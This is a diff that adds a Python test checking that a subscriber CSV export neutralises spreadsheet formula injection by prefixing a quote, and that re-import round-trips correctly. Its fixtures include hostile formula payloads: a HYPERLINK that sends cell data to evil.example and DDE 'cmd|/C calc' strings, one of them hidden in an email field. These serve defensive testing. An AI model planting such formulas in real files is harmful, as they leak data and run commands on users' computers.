@@ -207,3 +207,31 @@ def test_an_international_domain_is_stored_so_that_it_can_be_mailed(config, conn
         report = delivery.send_issue(conn, config, make_issue(conn))
         assert (report.sent, report.failed) == (2, 0), report.errors
         assert sorted(server.recipients()) == ["Anna@xn--bcher-kva.de", "ben@example.com"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0", "'=already quoted"]
+
+
+def test_export_neutralises_spreadsheet_formulas_and_import_reads_them_back(conn, tmp_path):
+    """OWASP's rule: a cell starting with = + - @, tab or CR gets a leading ' so a spreadsheet
+    shows it as text; importing the export gives the same subscribers back."""
+    for n, name in enumerate(FORMULAS):
+        subs.add(conn, f"reader{n}@example.com", name)
+    subs.add(conn, "=cmd|'/Ccalc'!A0@example.com", "Plain Name")
+    out = io.StringIO()
+    subs.export_csv(conn, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    for row in rows:
+        for cell in row.values():
+            assert not cell or cell[0] not in "=+-@\t\r", cell
+    assert [r["name"] for r in rows[:len(FORMULAS)]] == ["'" + name for name in FORMULAS]
+    assert rows[-1]["email"] == "'=cmd|'/Ccalc'!A0@example.com"
+
+    exported = write(tmp_path / "export.csv", out.getvalue())
+    good, rejected = subs.read_csv(exported)
+    assert rejected == []
+    assert [(email, name) for email, _, name in good] == [
+        *((f"reader{n}@example.com", name) for n, name in enumerate(FORMULAS)),
+        ("=cmd|'/Ccalc'!A0@example.com", "Plain Name"),
+    ]
